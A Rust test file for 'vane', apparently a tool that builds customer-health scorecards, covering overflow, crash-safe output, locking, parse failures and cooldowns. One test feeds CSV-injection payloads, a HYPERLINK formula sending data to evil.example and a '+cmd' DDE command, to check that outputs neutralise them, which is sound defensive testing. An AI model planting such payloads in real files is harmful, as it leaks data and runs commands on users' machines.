    // Each length fits, but a window that long ending that far back does
    // not: the run fails and says why, naming the metric.
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        (
            "p.yaml",
            &pipeline("100000000d", "previous(total, 100000000d)"),
        ),
    ]);
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!(
        (report.exit, code),
        (Exit::Error, Code::RunFailed),
        "{message}"
    );
    assert!(message.contains("`total`"), "{message}");
    assert!(!f.path("out/as_of=2026-11-01").exists());
}

#[test]
fn entities_without_a_key_are_one_clear_error_however_many() {
    for accounts in [
        "account_id,seats,segment\na1,10,smb\n,5,ent\n",
        "account_id,seats,segment\na1,10,smb\n,5,ent\n,6,ent\n",
    ] {
        let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
        let f = Fixture::new(&[
            ("accounts.csv", accounts),
            ("events.csv", events),
            ("p.yaml", PLAYBOOK_PIPELINE),
        ]);
        let report = f.run("2026-11-01");
        let (code, message) = first_error(&report);
        assert_eq!(
            (report.exit, code),
            (Exit::Error, Code::SchemaMismatch),
            "{message}"
        );
        assert!(message.contains("without a key"), "{message}");
        assert!(!f.path("out/as_of=2026-11-01").exists(), "nothing written");
        // Leaving them out of the population is the documented way through.
        let filtered = PLAYBOOK_PIPELINE.replace(
            "attributes: [seats] }",
            "attributes: [seats], population: account_id is not null }",
        );
        std::fs::write(f.path("p.yaml"), filtered).expect("write");
        let report = f.run("2026-11-01");
        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
        assert!(report.output.contains("1 account"), "{}", report.output);
    }
}

#[test]
fn a_pipeline_name_cannot_lead_outside_the_output_folder() {
    for name in ["../../escape", "/abs/path", "a b", "-x"] {
        let pipeline =
            PLAYBOOK_PIPELINE.replace("vane: 1\n", &format!("vane: 1\nname: \"{name}\"\n"));
        let f = Fixture::new(&[
            ("accounts.csv", ACCOUNTS),
            ("events.csv", "account_id,event_time\n"),
            ("p.yaml", &pipeline),
        ]);
        let report = commands::validate(&[f.path("p.yaml")], Data::Unread);
        let (code, message) = first_error(&report);
        assert_eq!(
            (report.exit, code),
            (Exit::Error, Code::InvalidValue),
            "{message}"
        );
        assert!(message.contains(name), "{message}");
    }
}

/// A process id no process can have (above Linux's largest), for the
/// leftovers of a run that was killed.
const DEAD_PID: u32 = 999_999_999;

#[test]
fn a_run_killed_at_any_step_of_its_commit_loses_no_night() {
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let fixture = || {
        let f = Fixture::new(&[
            ("accounts.csv", ACCOUNTS),
            ("events.csv", events),
            ("p.yaml", PLAYBOOK_PIPELINE),
        ]);
        assert_eq!(f.run("2026-11-01").exit, Exit::Ok);
        f
    };
    let night = "as_of=2026-11-01";
    let staging = format!(".{night}.tmp-{DEAD_PID}");
    let replaced = format!(".{night}.old-{DEAD_PID}");
    let half_written = |f: &Fixture, dir: &str| {
        std::fs::create_dir_all(f.path("out").join(dir)).expect("mkdir");
        std::fs::write(f.path("out").join(dir).join("scorecard.parquet"), "half").expect("write");
    };
    // Killed while writing the staging folder, or before the first rename.
    let f = fixture();
    let before = std::fs::read(f.path("out").join(night).join("actions.parquet")).expect("read");
    half_written(&f, &staging);
    let next = f.run("2026-11-02");
    assert_eq!(next.exit, Exit::Ok, "{:?}", next.diagnostics);
    assert!(
        next.output.contains(&format!("removed {staging}")),
        "{}",
        next.output
    );
    // Killed between the two renames: the night is only in `.old`.
    let f = fixture();
    std::fs::rename(f.path("out").join(night), f.path("out").join(&replaced)).expect("rename");
    half_written(&f, &staging);
    let next = f.run("2026-11-02");
    assert_eq!(next.exit, Exit::Ok, "{:?}", next.diagnostics);
    assert!(
        next.output.contains(&format!("restored {night}")),
        "{}",
        next.output
    );
    let after = std::fs::read(f.path("out").join(night).join("actions.parquet")).expect("restored");
    assert_eq!(before, after, "the night comes back whole");
    // Its actions still start the 2-day cooldown the next night.
    assert!(
        next.output.contains("held back by cooldowns"),
        "{}",
        next.output
    );
    // Killed after the second rename, before the old night was removed.
    let f = fixture();
    half_written(&f, &replaced);
    let next = f.run("2026-11-02");
    assert!(
        next.output.contains(&format!("removed {replaced}")),
        "{}",
        next.output
    );
    let hidden: Vec<String> = std::fs::read_dir(f.path("out"))
        .expect("out")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
    // A live run's folders are never touched.
    let f = fixture();
    let live = format!(".{night}.tmp-1");
    half_written(&f, &live);
    let next = f.run("2026-11-02");
    assert_eq!(next.exit, Exit::Ok);
    assert!(f.path("out").join(&live).exists(), "pid 1 is running");
}

#[test]
fn csv_outputs_neutralise_formulas_unless_asked_not_to() {
    let hostile = [
        "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\"\t=1+1\"",
    ];
    let mut accounts = String::from("account_id,seats,segment\n");
    for id in hostile {
        accounts.push_str(&format!("{id},1,smb\n"));
    }
    accounts.push_str("plain,1,smb\n");
    let f = Fixture::new(&[
        ("accounts.csv", &accounts),
        ("events.csv", "account_id,event_time\n"),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    let write = |raw_csv: bool| {
        let mut options = f.options("2026-11-01");
        options.format = Some(vane::base::FileFormat::Csv);
        options.raw_csv = raw_csv;
        let report = commands::run(&f.path("p.yaml"), &options, &|_| {});
        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
        let night = f.path("out/as_of=2026-11-01");
        let read = |file: &str| std::fs::read_to_string(night.join(file)).expect("csv");
        (read("scorecard.csv"), read("actions.csv"))
    };
    let (scorecard, actions) = write(false);
    for text in [&scorecard, &actions] {
        for start in ["=HYPERLINK", "+cmd", "@SUM", "-2+3", "\t=1+1"] {
            assert!(text.contains(&format!("'{start}")), "{start:?} in\n{text}");
            let bare = text
                .lines()
                .flat_map(|l| l.split(','))
                .any(|cell| cell.trim_start_matches('"').starts_with(start));
            assert!(!bare, "{start:?} left as a formula in\n{text}");
        }
        assert!(text.contains("plain"), "{text}");
        assert!(!text.contains("'plain"), "{text}");
    }
    let (scorecard, _) = write(true);
    assert!(scorecard.contains("\n+cmd"), "{scorecard}");
    assert!(!scorecard.contains("'+cmd"), "{scorecard}");
}

/// Write a Parquet file with text columns (and a timestamp `event_time`).
fn parquet(path: &Path, columns: &[(&str, Vec<&str>)]) {
    use datafusion::arrow::array::{ArrayRef, StringArray, TimestampMicrosecondArray};
    use std::sync::Arc;
    let columns = columns
        .iter()
        .map(|(name, values)| {
            let array: ArrayRef = match *name {
                "event_time" => Arc::new(TimestampMicrosecondArray::from(
                    values
                        .iter()
                        .map(|v| {
                            chrono::NaiveDateTime::parse_from_str(v, "%Y-%m-%dT%H:%M:%S")
                                .expect("timestamp")
                                .and_utc()
                                .timestamp_micros()
                        })
                        .collect::<Vec<_>>(),
                )),
                _ => Arc::new(StringArray::from(values.clone())),
            };
            (name.to_string(), array)
        })
        .collect();
    crate::support::write_parquet(path, columns);
}

#[test]
fn a_column_missing_from_some_files_of_a_source_is_an_error_unless_declared() {
    let pipeline = |missing: &str| {
        format!(
            "vane: 1
sources:
  accounts: {{ path: accounts.csv }}
  events: {{ path: events/, format: parquet, time: event_time{missing} }}
entity: {{ name: account, source: accounts, key: account_id, attributes: [seats] }}
metrics:
  features: {{ from: events, value: count_distinct(feature), unused: true }}
"
        )
    };
    let f = Fixture::new(&[("accounts.csv", ACCOUNTS), ("p.yaml", &pipeline(""))]);
    parquet(
        &f.path("events/2026-09.parquet"),
        &[
            ("account_id", vec!["a1", "a1"]),
            (
                "event_time",
                vec!["2026-09-10T10:00:00", "2026-09-11T10:00:00"],
            ),
            ("feature", vec!["reports", "alerts"]),
        ],
    );
    parquet(
        &f.path("events/2026-10.parquet"),
        &[
            ("account_id", vec!["a1"]),
            ("event_time", vec!["2026-10-10T10:00:00"]),
        ],
    );
    // Before: both exit 0 and `feature` reads as null in October.
    let validated = commands::validate(&[f.path("p.yaml")], Data::Opened);
    let (code, message) = first_error(&validated);
    assert_eq!(
        (validated.exit, code),
        (Exit::Error, Code::SchemaMismatch),
        "{message}"
    );
    assert!(
        message.contains("`feature`") && message.contains("2026-10.parquet"),
        "{message}"
    );
    assert!(!message.contains("2026-09.parquet"), "{message}");
    let report = f.run("2026-11-01");
    assert_eq!(first_error(&report).0, Code::SchemaMismatch);
    // Declared: the October rows count no feature.
    std::fs::write(
        f.path("p.yaml"),
        pipeline(", missing_columns: read_as_null"),
    )
    .expect("write");
    assert_eq!(value(&f.compute("2026-11-01"), "a1", "features"), "2");
    // An empty file in the folder is an error naming it, not skipped.
    std::fs::write(f.path("events/2026-11.parquet"), "").expect("write");
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!(
        (report.exit, code),
        (Exit::Error, Code::DataUnreadable),
        "{message}"
    );
    assert!(message.contains("2026-11.parquet"), "{message}");
}

#[test]
fn integers_are_exact_or_an_error_naming_the_metric_and_the_entity() {
    let max = i64::MAX;
    let accounts = format!("account_id,seats,segment\na1,{max},smb\na2,3,ent\n");
    let events = format!(
        "account_id,event_time,v\na1,2026-10-30T10:00:00,{max}\na1,2026-10-30T11:00:00,{max}\n\
         a1,2026-10-30T12:00:00,{max}\na1,2026-10-30T13:00:00,1\na2,2026-10-30T10:00:00,2\n"
    );
    let pipeline = |metric: &str| {
        format!(
            "vane: 1
sources:
  accounts: {{ path: accounts.csv }}
  events: {{ path: events.csv, time: event_time }}
entity: {{ name: account, source: accounts, key: account_id, attributes: [seats] }}
metrics:
  m: {{ {metric}, unused: true }}
"
        )
    };
    // Each of these wrapped around before and was written as a plausible number.
    for metric in [
        "from: events, value: sum(v)",
        "value: account.seats * account.seats",
        "value: account.seats + 1",
        "from: events, value: count() * 9223372036854775807",
        "value: -account.seats - 2",
    ] {
        let f = Fixture::new(&[
            ("accounts.csv", &accounts),
            ("events.csv", &events),
            ("p.yaml", &pipeline(metric)),
        ]);
        let report = f.run("2026-11-01");
        let (code, message) = first_error(&report);
        assert_eq!(
            (report.exit, code),
            (Exit::Error, Code::OutOfRange),
            "{metric}: {message}"
        );
        assert!(
            message.contains("metric `m` for account `a1`"),
            "{metric}: {message}"
        );
        assert!(!f.path("out/as_of=2026-11-01").exists());
    }
    // What fits is exact, and means are computed from the exact sum.
    let f = Fixture::new(&[
        ("accounts.csv", &accounts),
        ("events.csv", &events),
        ("p.yaml", &pipeline("from: events, value: avg(v)")),
    ]);
    let card = f.compute("2026-11-01");
    assert_eq!(value(&card, "a1", "m"), "6.917529027641082e18");
    assert_eq!(value(&card, "a2", "m"), "2.0");
    let f = Fixture::new(&[
        ("accounts.csv", &accounts),
        ("events.csv", &events),
        (
            "p.yaml",
            &pipeline("from: events, value: sum(v) - 9223372036854775807"),
        ),
    ]);
    let report = f.run("2026-11-01");
    assert_eq!(
        first_error(&report).0,
        Code::OutOfRange,
        "the sum itself does not fit"
    );
}

#[test]
fn runs_into_one_output_folder_take_turns() {
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    std::fs::create_dir_all(f.path("out")).expect("mkdir");
    let lock = f.path("out/.vane.lock");
    // A run that is still going (pid 1 always is) holds the folder.
    std::fs::write(&lock, "1").expect("write");
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!(
        (report.exit, code),
        (Exit::Error, Code::OutputFailed),
        "{message}"
    );
    assert!(message.contains("pid 1"), "{message}");
    assert!(!f.path("out/as_of=2026-11-01").exists());
    // A lock left by a run that was killed is taken over, and released.
    std::fs::write(&lock, DEAD_PID.to_string()).expect("write");
    let report = f.run("2026-11-01");
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    assert!(!lock.exists(), "released");
}

#[test]
fn rows_whose_key_is_no_entitys_are_counted_not_silently_dropped() {
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\na1,2026-10-30T11:00:00\n\
        zz,2026-10-30T10:00:00\nzz,2026-10-30T11:00:00\nzz,2026-10-31T10:00:00\n\
        ,2026-10-30T10:00:00\nzz,2026-09-01T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    let report = f.run("2026-11-01");
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    // Three rows of `zz` and one without a key in the 7-day window; the
    // September row is outside every window and read by no metric.
    assert!(
        report
            .output
            .contains("rows whose key is no account's (not scored): events 4"),
        "{}",
        report.output
    );
    let manifest: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(f.path("out/as_of=2026-11-01/manifest.json")).expect("manifest"),
    )
    .expect("json");
    assert_eq!(manifest["orphan_rows"]["events"], 4);
    assert_eq!(value(&f.compute("2026-11-01"), "a1", "logins"), "2");
}

#[test]
fn crm_exports_load_as_they_are_with_declared_column_types() {
    // JSON lines with ISO timestamps (with `Z`, with an offset, without
    // either), epoch milliseconds and amounts as text; blank values are null.
    let events = r#"{"account_id":"a1","ts":"2026-10-20T10:00:00Z","ms":1792922400000,"amount":"1.5"}
{"account_id":"a1","ts":"2026-10-31T23:30:00-01:00","ms":1792922400000,"amount":"2"}
{"account_id":"a1","ts":"2026-10-31 22:59:59","ms":1790000000000,"amount":" 4 "}
{"account_id":"a2","ts":"2026-09-01T00:00:00+00:00","ms":1,"amount":""}
{"account_id":"a2","ts":"","ms":null,"amount":"8"}
"#;
    let accounts = "account_id,signed_on,seats\na1,2026-01-05,10\na2,2025-12-31,x\na3,,5\n";
    let pipeline = |events_extra: &str, accounts_extra: &str| {
        format!(
            "vane: 1
sources:
  accounts:
    path: accounts.csv
    columns: {{ signed_on: date, seats: integer }}{accounts_extra}
  events:
    path: events.jsonl
    time: ts
    columns:
      ts: timestamp
      ms: {{ type: timestamp, format: epoch_millis }}
      amount: number{events_extra}
entity: {{ name: account, source: accounts, key: account_id, attributes: [signed_on, seats] }}
metrics:
  events_30d: {{ from: events, window: 30d, value: count(), unused: true }}
  amount_30d: {{ from: events, window: 30d, value: sum(amount), unused: true }}
  last_ms: {{ from: events, value: max(ms), unused: true }}
  tenure_days: {{ value: 'days_between(account.signed_on, as_of)', unused: true }}
"
        )
    };
    let f = Fixture::new(&[
        ("accounts.csv", accounts),
        ("events.jsonl", events),
        ("p.yaml", &pipeline("", "\n    max_parse_failures: 1")),
    ]);
    let card = f.compute("2026-11-01");
    // 23:30 at -01:00 is 00:30 UTC on Nov 1: outside the window.
    assert_eq!(value(&card, "a1", "events_30d"), "2");
    assert_eq!(value(&card, "a1", "amount_30d"), "5.5");
    assert_eq!(value(&card, "a1", "last_ms"), "2026-10-25T10:00:00");
    assert_eq!(value(&card, "a2", "events_30d"), "0");
    assert_eq!(value(&card, "a1", "tenure_days"), "300.0");
    assert_eq!(value(&card, "a2", "seats"), "null", "`x` is no integer");
    assert_eq!(value(&card, "a3", "signed_on"), "null", "blank is null");

    // The run reports the failure it allowed, in the summary and the manifest.
    let report = f.run("2026-11-01");
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    assert!(
        report.output.contains("accounts.seats 1, e.g. `x`"),
        "{}",
        report.output
    );
    let manifest: serde_json::Value = serde_json::from_slice(
        &std::fs::read(f.path("out/as_of=2026-11-01/manifest.json")).expect("manifest"),
    )
    .expect("JSON");
    assert_eq!(
        manifest["parse_failures"]["accounts"]["seats"],
        serde_json::json!({ "failures": 1, "rows": 3, "example": "x" })
    );
    assert_eq!(manifest["parse_failures"]["events"]["ts"]["failures"], 0);

    // Beyond the limit (0 by default) the run fails and writes nothing.
    std::fs::write(f.path("p.yaml"), pipeline("", "")).expect("write");
    let report = f.run("2026-11-02");
    assert_eq!(report.exit, Exit::Error);
    let (code, message) = first_error(&report);
    assert_eq!(code, Code::UnparsableValues);
    assert!(
        message.contains(
            "1 of 3 values of column `seats` in `accounts` cannot be read as an integer, e.g. `x`"
        ),
        "{message}"
    );
    assert!(!f.path("out/as_of=2026-11-02").exists());
}

#[test]
fn undeclared_text_times_get_advice_and_bad_declarations_are_caught_before_running() {
    let events =
        "{\"account_id\":\"a1\",\"ts\":\"2026-10-20T10:00:00Z\",\"n\":3,\"at\":1792922400000}\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.jsonl", events),
        (
            "p.yaml",
            "vane: 1
sources:
  accounts: { path: accounts.csv }
  events: { path: events.jsonl, time: ts }
entity: { name: account, source: accounts, key: account_id }
metrics:
  n: { from: events, value: count(), unused: true }
",
        ),
        (
            "bad.yaml",
            "vane: 1
sources:
  accounts: { path: accounts.csv }
  events:
    path: events.jsonl
    time: ts
    columns: { ts: timestamp, at: timestamp, n: { type: number, format: epoch_millis }, nope: date }
    max_parse_failures: lots
entity: { name: account, source: accounts, key: account_id }
metrics:
  n: { from: events, value: count(), unused: true }
",
        ),
    ]);
    let (_, diagnostics) = commands::check_path(&f.path("p.yaml"), Data::Opened);
    let error = diagnostics.iter().find(|d| d.is_error()).expect("an error");
    assert_eq!(error.code, Code::SchemaMismatch);
    let help = error.help.as_deref().unwrap_or("");
    assert!(help.contains("`columns: { ts: timestamp }`"), "{help}");

    let (_, diagnostics) = commands::check_path(&f.path("bad.yaml"), Data::Opened);
    let messages: Vec<String> = diagnostics
        .iter()
        .map(|d| format!("{} {}", d.code.as_str(), d.message))
        .collect();
    let expect = [
        "V500 column `at` of `events` is stored as an integer, which cannot be read as a timestamp",
        "V115 `format:` applies to timestamps and dates, not to a number column",
        "V500 source `events` has no column `nope`",
        "V115 `lots` is not a count or a percentage",
    ];
    for wanted in expect {
        assert!(
            messages.iter().any(|m| m.starts_with(wanted)),
            "{wanted}\n{messages:#?}"
        );
    }
    let at = diagnostics
        .iter()
        .find(|d| d.message.contains("`at`"))
        .and_then(|d| d.help.clone())
        .unwrap_or_default();
    assert!(at.contains("format: epoch_seconds"), "{at}");
}

#[test]
fn a_trend_across_a_definition_change_is_marked_and_reformatting_is_no_change() {
    let original = std::fs::read_to_string(repo("pipelines/customer_health.yaml"))
        .expect("pipeline")
        .replace("../examples/", &format!("{}/", repo("examples").display()));
    let reweighted = original.replace("    adoption: 35\n", "    adoption: 60\n");
    assert_ne!(original, reweighted);
    // Comments, blank lines and spacing inside expressions change nothing.
    let reformatted = original
        .replace("\nmetrics:\n", "\n# a comment\n\nmetrics:\n")
        .replace("count_distinct(user_id)", "count_distinct( user_id )");
    assert_ne!(original, reformatted);
    let dir = tempfile::tempdir().expect("temp dir");
    let pipeline = dir.path().join("p.yaml");
    let night = |text: &str, as_of: &str| {
        std::fs::write(&pipeline, text).expect("write");
        let options = RunOptions {
            as_of: Some(date(as_of)),
            out: Some(dir.path().join("out")),
            threads: Some(2),
            ..RunOptions::default()
        };
        let report = commands::run(&pipeline, &options, &|_| {});
        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
        let file = dir
            .path()
            .join(format!("out/as_of={as_of}/scorecard.parquet"));
        let batches = read_parquet(&file);
        let mut changed: Vec<String> = batches
            .iter()
            .flat_map(|b| {
                let column = b
                    .column_by_name("trend_definition_changed")
                    .expect("column");
                (0..b.num_rows())
                    .map(|row| array_value_to_string(column, row).expect("text"))
                    .collect::<Vec<_>>()
            })
            .collect();
        changed.sort_unstable();
        changed.dedup();
        (changed, report.output)
    };
    let (first, _) = night(&original, "2026-10-01");
    assert_eq!(first, [""], "null: no previous night");
    let (same, output) = night(&reformatted, "2026-10-02");
    assert_eq!(same, ["false"]);
    assert!(!output.contains("other definitions"), "{output}");
    let (changed, output) = night(&reweighted, "2026-10-03");
    assert_eq!(changed, ["true"]);
    assert!(
        output.contains("warning: the previous night (2026-10-02) was scored by other definitions"),
        "{output}"
    );
    assert!(
        output.contains("accounts moved more than 10 points"),
        "{output}"
    );
}

/// Every row of `batches` as `column → text` (null as `None`).
fn rows_as_text(
    batches: &[RecordBatch],
) -> Vec<std::collections::BTreeMap<String, Option<String>>> {
    let mut rows = Vec::new();
    for batch in batches {
        for row in 0..batch.num_rows() {
            let schema = batch.schema();
            rows.push(
                schema
                    .fields()
                    .iter()
                    .enumerate()
                    .map(|(i, f)| {
                        let column = batch.column(i);
                        let text = (!column.is_null(row))
                            .then(|| array_value_to_string(column, row).expect("text"));
                        (f.name().clone(), text)
                    })
                    .collect(),
            );
        }
    }
    rows
}

#[test]
fn actions_carry_display_attributes_and_cooldowns_keep_what_they_held_back() {
    let out = tempfile::tempdir().expect("temp dir");
    let pipeline = repo("pipelines/customer_health.yaml");
    for night in ["2026-10-25", "2026-11-01"] {
        let options = RunOptions {
            as_of: Some(date(night)),
            out: Some(out.path().to_path_buf()),
            ..RunOptions::default()
        };
        let report = commands::run(&pipeline, &options, &|_| {});
        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    }
    let night = |d: &str, file: &str| {
        rows_as_text(&read_parquet(&out.path().join(format!("as_of={d}/{file}"))))
    };
    let scorecard: std::collections::BTreeMap<String, _> = night("2026-11-01", "scorecard.parquet")
        .into_iter()
        .map(|r| (r["account_id"].clone().expect("key"), r))
        .collect();
    // Each action names the account as the scorecard does (the example's `display:`).
    let actions = night("2026-11-01", "actions.parquet");
    assert!(!actions.is_empty());
    for action in &actions {
        let entity = action["entity"].clone().expect("entity");
        for attribute in ["name", "segment", "csm", "arr", "renewal_date"] {
            assert_eq!(
                action[&format!("account_{attribute}")],
                scorecard[&entity][attribute],
                "{entity}.{attribute}"
            );
        }
        assert!(!action.contains_key("account_churned_at"));
    }
    // What the cooldowns held back is written, each with the earlier firing it repeats.
    let earlier: std::collections::BTreeSet<(String, String)> =
        night("2026-10-25", "actions.parquet")
            .into_iter()
            .map(|a| {
                (
                    a["playbook"].clone().expect("playbook"),
                    a["dedup_key"].clone().expect("key"),
                )
            })
            .collect();
    let held = night("2026-11-01", "held_back.parquet");
    assert!(!held.is_empty());
    let cooldown_days = |playbook: &str| match playbook {
        "login_plateau_call" => 14,
        "escalation_review" | "stalled_onboarding" => 7,
        _ => 30,
    };
    for row in &held {
        let playbook = row["playbook"].clone().expect("playbook");
        let key = row["dedup_key"].clone().expect("key");
        assert_eq!(row["held_because"].as_deref(), Some("cooldown"));
        assert!(
            earlier.contains(&(playbook.clone(), key.clone())),
            "{playbook} {key}"
        );
        assert_eq!(row["last_fired"].as_deref(), Some("2026-10-25"));
        let ends = date("2026-10-25") + chrono::Duration::days(cooldown_days(&playbook));
        assert_eq!(row["cooldown_ends"], Some(ends.to_string()));
        assert!(row["account_name"].is_some());
        assert!(
            !actions
                .iter()
                .any(|a| a["playbook"] == row["playbook"] && a["dedup_key"] == row["dedup_key"]),
            "{key} both fired and held back"
        );
    }
    let manifest: serde_json::Value = serde_json::from_slice(
        &std::fs::read(out.path().join("as_of=2026-11-01/manifest.json")).expect("manifest"),
    )
    .expect("json");
    let counted: u64 = manifest["actions_held_back"]
        .as_object()
        .expect("per playbook")
        .values()
        .filter_map(serde_json::Value::as_u64)
        .sum();
    assert_eq!(counted as usize, held.len());
    assert_eq!(manifest["actions_suppressed_by_cooldown"], held.len());
}
